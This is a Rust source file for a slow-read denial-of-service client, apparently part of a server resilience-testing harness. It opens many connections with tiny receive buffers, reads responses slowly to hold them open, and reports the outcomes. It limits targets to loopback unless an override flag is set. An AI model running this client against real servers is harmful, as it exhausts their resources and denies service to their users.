//! Slow-read client: many connections, each with a minimal receive buffer,
//! draining the response at a paced byte rate for a fixed hold period.
//!
//! User space cannot set the advertised TCP window directly. A tiny
//! SO_RCVBUF set before connect plus slow application reads shrinks it in
//! practice, which is what the server observes.

use std::io::{ErrorKind, Read, Write};
use std::net::SocketAddr;
use std::thread;
use std::time::{Duration, Instant};

use serde::Serialize;
use socket2::{Domain, Socket, Type};

use crate::{check_loopback, read_head, status_code, WireError, REQUEST};

const CONNECT_TIMEOUT: Duration = Duration::from_secs(2);
const HEAD_TIMEOUT: Duration = Duration::from_secs(5);
const TICK: Duration = Duration::from_millis(50);

#[derive(Debug, Clone)]
pub struct WireAttackConfig {
    pub target: SocketAddr,
    pub count: u64,
    pub recv_buffer: usize,
    pub read_rate: u64,
    pub hold: Duration,
    pub allow_non_loopback: bool,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub enum ConnOutcome {
    /// Served a 200 and still open when the hold ended.
    Held,
    /// Served a 200, then closed by the server before the hold ended.
    ClosedEarly,
    Refused,
    ConnectFailed,
}

#[derive(Debug, Clone, Copy)]
struct ConnReport {
    outcome: ConnOutcome,
    body_bytes: u64,
    reading: Duration,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct AttackSummary {
    pub opened: u64,
    pub refused: u64,
    pub connect_failed: u64,
    pub alive_at_end: u64,
    /// Mean over opened connections of body bytes read per second of hold.
    pub mean_read_rate: f64,
    pub min_read_rate: f64,
    pub max_read_rate: f64,
    pub hold_secs: f64,
}

impl AttackSummary {
    pub fn to_json_line(&self) -> String {
        serde_json::to_string(self).expect("summary serializes")
    }
}

/// Opens `count` slow readers at once and holds them for `hold`. Returns after
/// every connection has been released.
pub fn slow_read_attack(cfg: &WireAttackConfig) -> Result<AttackSummary, WireError> {
    check_loopback(cfg.target, cfg.allow_non_loopback)?;
    let started = Instant::now();
    let deadline = started + cfg.hold;
    let handles: Vec<_> = (0..cfg.count)
        .map(|_| {
            let cfg = cfg.clone();
            thread::spawn(move || one_connection(&cfg, deadline))
        })
        .collect();
    let reports: Vec<ConnReport> = handles.into_iter().map(|h| h.join().expect("reader thread")).collect();

    let count = |o: ConnOutcome| reports.iter().filter(|r| r.outcome == o).count() as u64;
    let rates: Vec<f64> = reports
        .iter()
        .filter(|r| matches!(r.outcome, ConnOutcome::Held | ConnOutcome::ClosedEarly))
        .map(|r| r.body_bytes as f64 / r.reading.as_secs_f64().max(1e-3))
        .collect();
    let mean = if rates.is_empty() { 0.0 } else { rates.iter().sum::<f64>() / rates.len() as f64 };
    Ok(AttackSummary {
        opened: count(ConnOutcome::Held) + count(ConnOutcome::ClosedEarly),
        refused: count(ConnOutcome::Refused),
        connect_failed: count(ConnOutcome::ConnectFailed),
        alive_at_end: count(ConnOutcome::Held),
        mean_read_rate: mean,
        min_read_rate: if rates.is_empty() { 0.0 } else { rates.iter().copied().fold(f64::INFINITY, f64::min) },
        max_read_rate: rates.iter().copied().fold(0.0, f64::max),
        hold_secs: cfg.hold.as_secs_f64(),
    })
}

fn one_connection(cfg: &WireAttackConfig, deadline: Instant) -> ConnReport {
    let failed = ConnReport { outcome: ConnOutcome::ConnectFailed, body_bytes: 0, reading: Duration::ZERO };
    let refused = ConnReport { outcome: ConnOutcome::Refused, ..failed };
    let connect = || -> std::io::Result<Socket> {
        let socket = Socket::new(Domain::for_address(cfg.target), Type::STREAM, None)?;
        socket.set_recv_buffer_size(cfg.recv_buffer)?;
        socket.connect_timeout(&cfg.target.into(), CONNECT_TIMEOUT)?;
        Ok(socket)
    };
    let mut stream: std::net::TcpStream = match connect() {
        Ok(s) => s.into(),
        Err(e) if e.kind() == ErrorKind::ConnectionRefused => return refused,
        Err(_) => return failed,
    };
    if stream.write_all(REQUEST).is_err() || stream.set_read_timeout(Some(HEAD_TIMEOUT)).is_err() {
        return refused;
    }
    let head = match read_head(&mut stream, 4096) {
        Ok(h) => h,
        Err(e) if matches!(e.kind(), ErrorKind::ConnectionReset | ErrorKind::ConnectionAborted) => return refused,
        Err(_) => return failed,
    };
    match status_code(&head) {
        Some(200) => {}
        Some(_) | None => return refused,
    }

    let reading_from = Instant::now();
    if stream.set_nonblocking(true).is_err() {
        return failed;
    }
    let mut buf = vec![0u8; cfg.read_rate.max(1) as usize];
    let mut allowance = 0.0f64;
    let mut body_bytes = 0u64;
    let mut last = reading_from;
    let mut outcome = ConnOutcome::Held;
    while Instant::now() < deadline {
        thread::sleep(TICK.min(deadline.saturating_duration_since(Instant::now())));
        // a reset arrives ahead of the bytes still queued for us
        if !matches!(stream.take_error(), Ok(None)) {
            outcome = ConnOutcome::ClosedEarly;
            break;
        }
        let now = Instant::now();
        // at most one second of unread budget carries over
        allowance = (allowance + cfg.read_rate as f64 * (now - last).as_secs_f64()).min(cfg.read_rate as f64);
        last = now;
        let want = (allowance.floor() as usize).min(buf.len());
        if want == 0 {
            continue;
        }
        match stream.read(&mut buf[..want]) {
            Ok(0) => {
                outcome = ConnOutcome::ClosedEarly;
                break;
            }
            Ok(n) => {
                body_bytes += n as u64;
                allowance -= n as f64;
            }
            Err(e) if e.kind() == ErrorKind::WouldBlock || e.kind() == ErrorKind::Interrupted => {}
            Err(_) => {
                outcome = ConnOutcome::ClosedEarly;
                break;
            }
        }
    }
    let reading = Instant::now().min(deadline).saturating_duration_since(reading_from);
    ConnReport { outcome, body_bytes, reading }
}
